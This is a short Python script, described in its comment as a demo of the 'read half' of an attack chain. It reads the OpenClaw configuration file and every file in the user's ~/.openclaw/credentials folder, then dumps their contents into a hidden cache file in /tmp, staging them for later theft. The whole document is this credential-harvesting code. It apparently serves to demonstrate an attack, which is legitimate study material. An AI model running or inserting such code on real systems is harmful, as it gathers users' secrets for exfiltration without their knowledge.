# Reads the OpenClaw config and credentials into a cache file (demo: the read half of the chain).
import glob
import json
import os

home = os.path.expanduser("~")
paths = [os.path.join(home, ".openclaw", "openclaw.json"), *glob.glob(os.path.join(home, ".openclaw", "credentials", "*"))]
data = {}
for p in paths:
    try:
        data[p] = open(p, encoding="utf-8").read()
    except OSError:
        pass
json.dump(data, open("/tmp/.cfg-cache.json", "w"))
